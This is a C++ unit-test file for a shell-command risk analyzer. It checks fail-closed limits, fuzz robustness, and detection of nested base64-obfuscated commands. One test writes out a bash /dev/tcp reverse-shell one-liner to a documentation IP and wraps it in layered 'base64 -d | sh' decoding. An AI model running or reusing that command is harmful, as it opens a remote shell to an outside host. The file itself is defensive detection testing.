// Limits and failure handling: analysis never throws and fails closed.
#include <gtest/gtest.h>

#include <random>

#include "test_support.hpp"

namespace nonaxis::ciso::testing {
namespace {

TEST(CisoRobustness, OversizedContentFailsClosed) {
  const auto a = run(std::string(Analyzer::kMaxContentBytes + 1, 'a'), false);
  EXPECT_EQ(a["risk_score"], 100);
  EXPECT_EQ(a["recommendation"], "reject");
}

TEST(CisoRobustness, BinaryContentFailsClosed) {
  const auto a = run(std::string("ab\0cd", 5), false);
  EXPECT_EQ(a["risk_score"], 100);
}

TEST(CisoRobustness, DeepNestingFailsClosed) {
  std::string s = "ls";
  for (int i = 0; i < 20; ++i) s = "sh -c \"" + [&] {
    std::string e;
    for (char c : s) {
      if (c == '"' || c == '\\' || c == '$' || c == '`') e.push_back('\\');
      e.push_back(c);
    }
    return e;
  }() + "\"";
  const auto a = run(s, true);
  EXPECT_EQ(a["risk_score"], 100) << a["analysis_notes"];
}

TEST(CisoRobustness, NestedBase64IsFollowedThenBounded) {
  std::string payload = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1";
  // 3 layers: decoded and found.
  std::string layered = payload;
  auto b64 = [](const std::string& in) {
    static const char* t = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    std::size_t i = 0;
    for (; i + 2 < in.size(); i += 3) {
      auto u = [&](std::size_t k) { return static_cast<unsigned>(static_cast<unsigned char>(in[k])); };
      const unsigned v = (u(i) << 16) | (u(i + 1) << 8) | u(i + 2);
      for (int k = 3; k >= 0; --k) out.push_back(t[(v >> (6 * k)) & 63]);
    }
    if (i < in.size()) {
      unsigned v = static_cast<unsigned>(static_cast<unsigned char>(in[i])) << 16;
      if (i + 1 < in.size()) v |= static_cast<unsigned>(static_cast<unsigned char>(in[i + 1])) << 8;
      out.push_back(t[(v >> 18) & 63]);
      out.push_back(t[(v >> 12) & 63]);
      out.push_back(i + 1 < in.size() ? t[(v >> 6) & 63] : '=');
      out.push_back('=');
    }
    return out;
  };
  for (int i = 0; i < 3; ++i) layered = "echo " + b64(layered) + " | base64 -d | sh";
  const auto a = run(layered, true);
  EXPECT_TRUE(has_rule(a, "reverse_shell.dev_tcp_shell")) << rule_ids(a);
  EXPECT_GE(a["risk_score"].get<int>(), 90);
}

TEST(CisoRobustness, RandomBytesNeverThrow) {
  std::mt19937 rng(42);
  std::uniform_int_distribution<int> byte(1, 255);
  for (int n = 0; n < 300; ++n) {
    std::string s(static_cast<std::size_t>(rng() % 400), ' ');
    for (auto& c : s) c = static_cast<char>(byte(rng));
    const auto a = run(s, n % 2 == 0);
    const int score = a["risk_score"].get<int>();
    EXPECT_GE(score, 0);
    EXPECT_LE(score, 100);
  }
}

TEST(CisoRobustness, ShellMetacharacterSoup) {
  std::mt19937 rng(7);
  const std::string alphabet = "$(){}[]'\"`\\|&;<>#\n =abc-/";
  for (int n = 0; n < 500; ++n) {
    std::string s;
    const std::size_t len = rng() % 200;
    for (std::size_t i = 0; i < len; ++i) s.push_back(alphabet[rng() % alphabet.size()]);
    const auto a = run(s, true);
    EXPECT_TRUE(a.contains("risk_score"));
  }
}

}  // namespace
}  // namespace nonaxis::ciso::testing
